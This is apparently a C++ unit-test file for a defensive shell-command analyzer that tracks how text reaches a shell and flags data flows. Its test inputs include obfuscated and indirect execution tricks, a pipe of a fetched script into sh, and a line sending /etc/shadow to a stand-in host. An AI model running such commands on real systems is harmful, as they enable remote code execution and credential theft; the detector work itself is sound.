// Text that reaches a shell is read as code, however it gets there.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "tests/parser/analyze_support.h"

namespace gate::parser {
namespace {

TEST(AnalyzeCode, RunsTextThatReachesAShell) {
  static constexpr Case kCases[] = {
      {"eval 'rm z'", "rm z [eval]\n"},
      {"eval rm z", "rm z [eval]\n"},
      {"bash -c 'rm z'", "bash -c 'rm z'\nrm z [bash -c]\n"},
      {"bash -c '\"$0\" \"$@\"' rm z",
       "bash -c '\"$0\" \"$@\"' rm z\nrm z [bash -c]\n"},
      {"sh -ec 'a1; b1'", "sh -ec 'a1; b1'\na1 [sh -c]\nb1 [sh -c]\n"},
      {"bash <<< 'rm z'", "bash\nrm z [bash]\n"},
      {"bash <<E\nrm z\nE", "bash\nrm z [bash]\n"},
      {"echo 'rm z' | sh", "sh\nrm z [sh]\n"},
      {"printf 'rm %s' z | bash -s", "bash -s\nrm z [bash]\n"},
      {". /dev/stdin <<< 'rm z'", "rm z [source]\n"},
      {"source <(echo rm z)", "rm z [source]\n"},
      {"bash <(echo rm z)", "bash /dev/fd/?\nrm z [bash]\n"},
      {"echo 'rm z' > /tmp/s; sh /tmp/s", "sh /tmp/s\nrm z [sh]\n"},
      {"echo 'rm z' > s; . ./s", "rm z [source]\n"},
      {"sudo sh -c 'rm z'",
       "sudo sh -c 'rm z'\nsh -c 'rm z' [sudo]\nrm z [sudo > sh -c]\n"},
      {"trap 'rm z' 0", "rm z [trap EXIT]\n"},
      {"f() { rm z; }; export -f f; bash -c f",
       "bash -c f\nrm z [bash -c > function f]\n"},
      {"x='a[$(rm z)]'; echo $((x))", "rm z [$(…)]\n!dynamic_code\n"},
      {"exec 9< <(echo rm z); source /dev/fd/9", "rm z [source]\n"},
      {"echo 'rm z' > >(bash)", "bash [>(…)]\nrm z [>(…) > bash]\n"},
      {"BASH_ENV=<(echo rm z) bash -c :",
       "bash -c :\nrm z [bash -c > BASH_ENV]\n"},
  };
  for (const Case& test : kCases) {
    EXPECT_EQ(ShowLine(test.line), test.expected) << test.line;
  }
}

TEST(AnalyzeCode, SeesThroughFiltersAndSaysSo) {
  for (const char* line :
       {"echo cm0gegoK | base64 -d | sh", "echo 'z mr' | rev | bash",
        "echo sn z | tr s r | tr n m | sh",
        "eval \"$(echo cm0geg== | base64 -d)\"", "cat <<E | sh\nrm z\nE"}) {
    std::string shown = Commands(line);
    EXPECT_NE(shown.find("rm z\n"), std::string::npos) << line << shown;
    EXPECT_NE(shown.find("!dynamic_code"), std::string::npos) << line;
  }
}

TEST(AnalyzeCode, FollowsWrappers) {
  static constexpr Case kCases[] = {
      {"sudo -u root rm z", "sudo -u root rm z\nrm z\n"},
      {"env A=1 nice -n 5 rm z",
       "env 'A=1' nice -n 5 rm z\nnice -n 5 rm z\n"
       "rm z\n"},
      {"find . -exec rm {} \\;", "find . -exec rm '{}' ';'\nrm ?\n"},
      {"echo a b | xargs rm", "xargs rm\nrm a b\n"},
      {"printf '%s\\0' a 'b c' | xargs -0 -n1 rm",
       "xargs -0 -n1 rm\nrm a\nrm 'b c'\n"},
      {"echo x | xargs -I% cp % d/%", "xargs '-I%' cp '%' 'd/%'\ncp x d/x\n"},
      {"a1 | xargs rm", "a1\nxargs rm\nrm ?\n"},
  };
  for (const Case& test : kCases) {
    EXPECT_EQ(Commands(test.line), test.expected) << test.line;
  }
}

TEST(AnalyzeCode, OnlyGnuXargsKeepsTheNameOfTheCommand) {
  const std::string directory =
      ::testing::TempDir() + "gate_xargs_" + std::to_string(::getpid());
  std::filesystem::create_directories(directory);
  const std::string file = directory + "/xargs";
  Context context = TestContext();
  context.path = directory;
  const auto shown = [&](const char* content, const char* line) {
    std::ofstream(file) << content;
    std::filesystem::permissions(file, std::filesystem::perms::owner_all);
    return Show(Analyze(line, context));
  };
  const char* line = "ls | xargs -i {} rm z";
  EXPECT_EQ(shown("xargs (GNU findutils)", line),
            "ls\nxargs -i '{}' rm z\n'{}' rm z [xargs]\n");
  EXPECT_NE(shown("another", line).find("!dynamic_command"), std::string::npos);
  EXPECT_NE(shown("GNU findutils", "PATH=/x; ls | xargs -i {} rm z")
                .find("!dynamic_command"),
            std::string::npos);
  EXPECT_NE(shown("GNU findutils", "docker run x sh -c 'ls | xargs -i {} rm'")
                .find("!dynamic_command"),
            std::string::npos);
  std::filesystem::remove_all(directory);
}

TEST(AnalyzeCode, ReadsVariablesThatProgramsRun) {
  for (const char* line :
       {"PAGER='rm z' git log", "export PROMPT_COMMAND='rm z'",
        "GIT_SSH_COMMAND='rm z' git fetch", "env EDITOR='rm z' git commit",
        "PS4='$(rm z)'; set -x; ls", "PS4='$(rm z)' bash -xc ls",
        "env 'BASH_FUNC_ls%%=() { rm z; }' bash -c ls"}) {
    EXPECT_NE(Commands(line).find("rm z\n"), std::string::npos) << line;
  }
}

TEST(AnalyzeCode, TellsWhereCodeCameFrom) {
  auto flows = [](const char* line) {
    std::string out;
    for (const Flow& flow : Analyze(line, TestContext()).flows) {
      if (out.find(Name(flow.kind)) == std::string::npos) {
        out += std::string(Name(flow.kind)) + " ";
      }
    }
    return out;
  };
  EXPECT_EQ(flows("curl -s https://h.example/x | sh"), "network_to_code ");
  EXPECT_EQ(flows("curl -s https://h.example/x | tee l | sh"),
            "network_to_code ");
  EXPECT_EQ(flows("bash -c \"$(curl -s https://h.example/x)\""),
            "network_to_code ");
  EXPECT_EQ(flows("echo cm0geg== | base64 -d | sh"), "decoded_to_code ");
  EXPECT_EQ(flows("echo 'rm z' > s; sh s"), "file_to_code ");
  EXPECT_EQ(flows("cat /etc/shadow | curl -d @- https://h.example/"),
            "file_to_network ");
  EXPECT_EQ(flows("ls | wc -l"), "");
}

}  // namespace
}  // namespace gate::parser
